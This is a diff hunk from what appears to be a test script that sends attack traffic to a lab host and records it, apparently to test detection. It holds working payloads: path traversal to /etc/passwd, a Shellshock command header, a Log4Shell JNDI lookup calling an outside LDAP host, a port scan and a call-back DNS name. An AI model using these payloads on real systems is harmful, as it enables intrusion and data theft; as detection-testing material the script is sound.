@@ -52,7 +52,7 @@ get --path-as-is http://10.20.0.10/../../../../etc/passwd                       
 get -A '() { :;}; /bin/bash -c "id"' http://10.20.0.10/cgi-bin/status                 # Shellshock, CVE-2014-6271
 get -H 'X-Api-Version: ${jndi:ldap://203.0.113.5:1389/a}' http://10.20.0.10/          # Log4Shell, CVE-2021-44228
 from nmap -n -Pn -sS -p 1-120 --max-rate 400 10.20.0.10 >/dev/null                    # a port scan
-from dig +time=1 +tries=1 @10.20.0.10 beacon.palisade-c2.example >/dev/null           # a call-back name
+from dig +time=1 +tries=1 @10.20.0.10 web-0.callback.palisade.test >/dev/null           # a call-back name
 
 before=-1
 until [ "$before" = "$(stat -c %s "$work/attack.pcap")" ]; do before=$(stat -c %s "$work/attack.pcap"); read -rt 0.5 _ <> <(:) || true; done
